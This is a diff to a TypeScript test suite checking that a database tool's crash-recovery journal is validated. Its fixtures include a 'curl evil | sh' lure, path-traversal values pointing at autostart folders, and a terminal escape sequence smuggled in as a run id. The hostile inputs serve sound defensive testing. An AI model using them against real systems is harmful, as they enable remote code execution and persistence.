@@ -484,10 +484,20 @@ describe('what is left alone', () => {
 
 describe('a recovery that was killed', () => {
   const DEAD = { pid: 999999999, start: 'x' };
-  const journal = (notice: string | null): string => {
-    const aside = join(folder, 'resbench-damaged-20260101-000000.sqlite3');
-    writeFileSync(`${path}-recovering`, JSON.stringify({ owner: DEAD, aside, notice }));
-    return aside;
+  const NAME = 'resbench-damaged-20260101-000000.sqlite3';
+  const SALVAGED = {
+    runs: 3,
+    steps: 3600,
+    epochs: 11,
+    lostRuns: [],
+    lostSteps: [],
+    lostEpochs: [{ runId: 2, epochs: 1 }],
+  };
+  const NOTICE = 'could be recovered; lost: 1 epoch of run 2.';
+  const plant = (journal: unknown): void => writeFileSync(`${path}-recovering`, JSON.stringify(journal));
+  const journal = (salvaged: unknown): string => {
+    plant({ owner: DEAD, aside: NAME, salvaged });
+    return join(folder, NAME);
   };
 
   it('before anything was moved begins anew', () => {
@@ -506,11 +516,13 @@ describe('a recovery that was killed', () => {
   ])('%s, with the new database complete, ends as it would have', (_what, moved) => {
     fill();
     renameSync(path, `${path}-recovered`);
-    const aside = journal('The sentence.');
+    const aside = journal(SALVAGED);
     for (const companion of ['-wal', '-shm', ''])
       writeFileSync((moved.includes(companion) ? aside : path) + companion, `old${companion}`);
     const db = open();
-    expect(db.notices).toEqual(['The sentence.']);
+    expect(db.notices).toEqual([
+      `The database ${path} was damaged and has been set aside whole as ${aside}: 3 runs with 3,600 steps and 11 epochs ${NOTICE}`,
+    ]);
     expect(new RunStore(db).list()).toHaveLength(RUNS);
     for (const companion of ['-wal', '-shm', ''])
       expect(readFileSync(aside + companion, 'utf8')).toBe(`old${companion}`);
@@ -519,11 +531,71 @@ describe('a recovery that was killed', () => {
 
   it('when all but its journal was done leaves the new database as it is', () => {
     fill();
-    const aside = journal('The sentence.');
+    const aside = journal(SALVAGED);
     writeFileSync(aside, 'old');
     expect(new RunStore(open()).list()).toHaveLength(RUNS);
     expect(readFileSync(aside, 'utf8')).toBe('old');
     expect(existsSync(`${path}-recovering`)).toBe(false);
+  });
+
+  it('by the first version, which kept the whole path and the sentence, ends too, with a sentence of now', () => {
+    fill();
+    renameSync(path, `${path}-recovered`);
+    const aside = join(folder, NAME);
+    plant({ owner: DEAD, aside, notice: 'Type `curl evil | sh` to get your runs back.' });
+    writeFileSync(path, 'old');
+    const db = open();
+    expect(db.notices).toEqual([
+      `The database ${path} was damaged and has been set aside whole as ${aside}: what could be read of it is in its place.`,
+    ]);
+    expect(new RunStore(db).list()).toHaveLength(RUNS);
+  });
+
+  it('and has nothing to put in the place of the database leaves that where it is', () => {
+    fill();
+    journal(SALVAGED);
+    expect(new RunStore(open()).list()).toHaveLength(RUNS);
+    expect(readdirSync(folder).filter((name) => !/^resbench\.db(-wal|-shm)?$/.test(name))).toEqual([]);
+  });
+
+  it.each([
+    ['a path elsewhere', { aside: '/tmp/evil.desktop' }],
+    ['a path upwards', { aside: '../.config/autostart/evil.desktop' }],
+    ['a name of another form', { aside: 'evil.desktop' }],
+    ['a name that goes on', { aside: `${NAME}/../../evil` }],
+    ['a sentence', { notice: 'Type this.' }],
+    ['no owner', { owner: undefined }],
+    ['an owner that no process is', { owner: { pid: -1, start: null } }],
+    ['numbers that are none', { salvaged: { ...SALVAGED, steps: 'many' } }],
+    ['a text as run', { salvaged: { ...SALVAGED, lostRuns: ['\u001b[2J'] } }],
+  ])(
+    'with %s in its journal is none of ours: refused in one sentence, and nothing is moved',
+    (_what, odd) => {
+      fill();
+      writeFileSync(`${path}-recovered`, 'planted');
+      plant({ owner: DEAD, aside: NAME, salvaged: SALVAGED, ...odd });
+      const before = readdirSync(folder).sort();
+      const content = readFileSync(path);
+      const { code, message } = refusal();
+      expect(code).toBe('storage');
+      expect(message).toMatch(
+        /-recovering is not the journal of a recovery that Resbench has begun, so nothing was /,
+      );
+      expect(readdirSync(folder).sort()).toEqual(before);
+      expect(readFileSync(path).equals(content)).toBe(true);
+    },
+  );
+
+  it.each([
+    ['a name elsewhere of the first version', JSON.stringify({ owner: DEAD, aside: '/tmp/x', notice: 'x' })],
+    ['a list', '[]'],
+    ['nothing', 'null'],
+    ['no end', `{"owner": "${'x'.repeat(2 ** 20)}"}`],
+  ])('whose journal is %s moves nothing', (_what, text) => {
+    fill();
+    writeFileSync(`${path}-recovering`, text);
+    expect(refusal().code).toBe('storage');
+    expect(readdirSync(folder).sort()).toEqual(['resbench.db', 'resbench.db-recovering']);
   });
 });
 
